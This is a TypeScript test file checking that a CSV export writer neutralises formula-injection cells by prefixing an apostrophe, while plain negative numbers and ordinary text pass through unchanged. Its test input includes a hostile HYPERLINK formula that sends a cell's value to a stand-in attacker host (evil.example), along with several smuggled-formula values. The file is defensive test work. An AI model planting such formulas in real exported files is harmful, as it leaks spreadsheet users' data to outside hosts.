import { PassThrough } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parseString } from '@fast-csv/parse';
import { CsvWriter } from '../csv.writer';
import type { ExportRow } from '../export-writer';
import { writeContext } from './writer-fixtures';

const context = writeContext();

async function writeCsv(rows: ExportRow[]): Promise<string> {
  const out = new PassThrough();
  const writer = new CsvWriter().open(out, context);
  const [csv] = await Promise.all([text(out), writer.write(rows).then(() => writer.finish())]);
  return csv;
}

/** The data rows of the file, as an RFC 4180 parser reads them. */
async function csvRows(rows: ExportRow[]): Promise<string[][]> {
  const csv = await writeCsv(rows);
  return new Promise((resolve, reject) => {
    const parsed: string[][] = [];
    parseString(csv.replace(/^\uFEFF/, ''), { headers: false })
      .on('data', (row: string[]) => parsed.push(row))
      .on('error', reject)
      .on('end', () => resolve(parsed.slice(1)));
  });
}

describe(CsvWriter.name, () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('guards a cell starting with %j in every column, whatever its type', async (start) => {
    // Columns: integer, text, datetime, date, decimal, text. SQLite keeps text in any column.
    const hostile = `${start}HYPERLINK("http://evil.example/?"&A1)`;
    const [row] = await csvRows([[hostile, hostile, hostile, hostile, hostile, hostile]]);

    expect(row).toEqual(Array.from({ length: 6 }, () => `'${hostile}`));
  });

  it('keeps negative numbers as numbers: a plain number after a minus is no formula', async () => {
    const [row] = await csvRows([[-7, '-0.5', '2024-01-31 23:30:00', '2024-01-31', '-12.50', '-42']]);

    expect(row).toEqual(['-7', '-0.5', '2024-01-31 23:30:00', '2024-01-31', '-12.50', '-42']);
  });

  it.each(['-1+2', '-A1', '-12.50+cmd', '- 5', '-', '-1e5', '-.5'])(
    'guards %j: a minus before anything but a plain number',
    async (value) => {
      const [row] = await csvRows([[1, value, null, null, value, null]]);

      expect(row).toEqual(['1', `'${value}`, '', '', `'${value}`, '']);
    },
  );

  it('leaves ordinary text, and a formula character past the first, alone', async () => {
    const [row] = await csvRows([[1, 'José Núñez', null, null, '1234567.89', 'a=b+c @home']]);

    expect(row).toEqual(['1', 'José Núñez', '', '', '1234567.89', 'a=b+c @home']);
  });
});
